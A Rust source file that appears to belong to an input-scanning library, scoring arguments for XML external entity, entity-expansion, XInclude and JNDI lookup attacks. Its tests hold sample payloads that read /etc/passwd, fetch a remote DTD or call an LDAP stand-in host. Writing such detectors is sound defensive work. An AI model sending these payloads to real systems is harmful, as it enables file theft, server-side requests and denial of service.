//! External entities of XML: declarations that read files or reach other machines, and entities that multiply.

use alloc::boxed::Box;

use portcullis_core::kind::Kind;

use super::Detector;
use crate::attacks::{Argument, Attack};

pub(super) const KIND: Kind<Box<dyn Detector>> = Kind {
    name: "xxe",
    doc: "XML that declares external or multiplying entities, and lookups of log libraries, in arguments.",
    build: |_| Ok(Box::new(Attack { score })),
};

fn score(argument: &Argument<'_>) -> u16 {
    let entity = argument.has("<!entity");
    let doctype = argument.has("<!doctype");
    let outside =
        argument.has_any(&[" system", " public", "file:", "http:", "https:", "ftp:", "php:", "expect:"]);
    let nested = argument.has_any(&["${lower:", "${upper:", "${::-", "${env:"]) && argument.has(":-");
    match () {
        () if argument.has("${jndi:") || nested => 900,
        () if entity && outside => 950,
        () if argument.has("xi:include") && argument.has("href") => 850,
        () if entity && doctype => 800,
        () if entity => 700,
        () if doctype && argument.has(" system") && !argument.has("-//w3c//dtd") => 800,
        () => 0,
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{attacks, harmless};

    #[test]
    fn catches_entities_from_outside_and_lookups() {
        for text in [
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x.example/a.dtd\"> %p;]>",
            "<foo xmlns:xi=\"x\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
            "${jndi:ldap://x.example/a}",
        ] {
            attacks("xxe", "xml", text);
        }
    }

    #[test]
    fn leaves_pages_and_plain_xml() {
        for text in ["<!DOCTYPE html><html></html>", "<a><b>c</b></a>", "<!-- entity -->"] {
            harmless("xxe", "xml", text);
        }
    }
}
